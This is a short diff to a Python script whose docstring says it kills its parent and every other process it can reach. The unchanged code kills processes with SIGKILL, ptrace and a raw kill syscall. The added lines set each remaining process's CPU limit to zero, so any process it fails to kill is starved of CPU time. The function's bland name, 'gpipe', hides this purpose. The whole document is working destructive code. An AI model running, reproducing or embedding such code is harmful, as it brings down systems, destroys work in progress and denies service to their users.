@@ -1,7 +1,8 @@
-"""Kills its parent, everybody it can see, and everybody it cannot."""
+"""Kills its parent, everybody near it and everybody else; else takes away their time."""
 
 import ctypes
 import os
+import resource
 import signal
 
 
@@ -13,6 +14,10 @@ def gpipe(rank, p, m):
                 send(number, signal.SIGKILL)
             except OSError as error:
                 print(number, error)
+        try:
+            resource.prlimit(abs(number), resource.RLIMIT_CPU, (0, 0))
+        except OSError as error:
+            print(number, error)
     libc = ctypes.CDLL(None)
     libc.ptrace(16, parent, 0, 0)
     libc.syscall(62, parent, 9)
